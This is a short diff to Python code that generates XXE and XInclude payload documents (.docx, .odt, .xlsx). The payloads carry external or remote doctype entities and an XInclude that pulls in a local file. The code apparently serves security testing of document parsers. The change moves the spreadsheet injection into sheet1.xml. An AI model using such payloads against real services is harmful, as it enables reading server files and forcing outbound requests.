@@ -309,7 +309,7 @@ def _payloads(file: str, url: str) -> Iterator[tuple[str, bytes]]:
     yield "doctype_types.docx", _word("", "300 people", types=external)
     yield "doctype_file.odt", _open_document(external, "&x;")
     yield "doctype_remote.odt", _open_document(remote, "300 people")
-    yield "doctype_strings.xlsx", _sheet(external, "&x;")
+    yield "doctype_sheet.xlsx", _sheet(external, "&x;")
     yield (
         "include.docx",
         _word("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'),
@@ -370,8 +370,8 @@ def _sheet(doctype: str, text: str) -> bytes:
     with zipfile.ZipFile(out) as package:
         for name in package.namelist():
             part = package.read(name).decode()
-            if name.endswith("sharedStrings.xml"):
-                part = doctype + part[part.find("<sst") :].replace("300 people left", text)
+            if name.endswith("sheet1.xml"):
+                part = doctype + part[part.find("<worksheet") :].replace("300 people left", text)
             parts[name] = part
     return _zipped(parts)
 
